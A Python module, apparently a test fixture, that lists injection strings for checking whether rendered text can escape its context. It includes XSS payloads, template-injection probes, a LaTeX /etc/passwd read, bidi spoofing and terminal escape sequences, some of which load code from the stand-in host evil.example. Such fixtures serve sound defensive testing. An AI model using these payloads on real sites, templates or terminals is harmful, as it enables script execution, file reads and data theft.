"""Texts with which a model, a data file or a rater may try to get out of the place where they are shown.

In a page each tries to set `window.hacked`, to open a dialog, to ask another server for something, or to break the
markup; in a terminal to steer it.
"""

RUN = "window.hacked=(window.hacked||0)+1"
AWAY = "http://evil.example"

MARKUP = [
    f"<script>{RUN};alert(1)</script>",
    f"<ScRiPt src={AWAY}/x.js></sCrIpT>",
    f"<<script>{RUN}//<</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src='{AWAY}/pixel.png'>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='{AWAY}/'></iframe>",
    f"<object data='{AWAY}/x.swf'></object><embed src='{AWAY}/x'>",
    f"<a href='javascript:{RUN}' id=x>x</a>",
    f"[x](javascript:{RUN}) <javascript:{RUN}>",
    f"![x]({AWAY}/pixel.png)",
    f"<form action='{AWAY}'><button formaction='javascript:{RUN}'>go</button></form>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href='{AWAY}/'>",
    f"<link rel=stylesheet href='{AWAY}/x.css'>",
    f"<link rel=prefetch href='{AWAY}/x'>",
]
BREAKS = [
    f"</style><script>{RUN}</script>",
    f"</title></head><body><script>{RUN}</script>",
    f"</td></tr></table><script>{RUN}</script>",
    f"</svg></figure><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus tabindex=0 x='",
    f"`onmouseover={RUN}`",
    f"url('{AWAY}/x')}} * {{background:url({AWAY}/y)}} @import '{AWAY}/z';",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e \\x3cscript\\x3e",
]
TEMPLATES = [
    "{{ 7 * 7 }} {{ config.__class__.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# comment #} ${7*7} #{7*7} <%= 7*7 %> %(reward)s {reward} {0.__class__}",
    "$\\frac{a}{$ $x^{$ \\LaTeX \\input{/etc/passwd}",
    "[bold]x[/bold] [/] [link=http://evil.example]y[/link] [red",
]
UNICODE = [
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u02c2img src=x onerror={RUN}\u02c3",
    "\u202e\u2066gnp.exe\u2069 \u200b\u200f\ufeff\u2028\u2029\x85",
    f"<scr\0ipt>{RUN}</scr\0ipt><img src=x onerror\x0b={RUN}>",
    "🙂👨‍👩‍👧 שלום مرحبا נ\u05b0\u05c0 日本語 Z̸̧̛͖̦a̷͎̕l̵̹̂g̷̱͌o̶̼͝",
    "x" * 20_000 + f"<script>{RUN}</script>",
]
TERMINAL = [
    "\x1b[2J\x1b[1;31mred\x1b[0m",
    "\x1b]0;title\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZWNobyBoYWNrZWQ=\x07\x1bP$q\x1b\\\x1b_G\x1b\\",
    "\x9b2J\x9d0;t\x9c \r overwritten \b\b\x7f\x0e\x0f\x05",
]
PAYLOADS = [*MARKUP, *BREAKS, *TEMPLATES, *UNICODE, *TERMINAL]
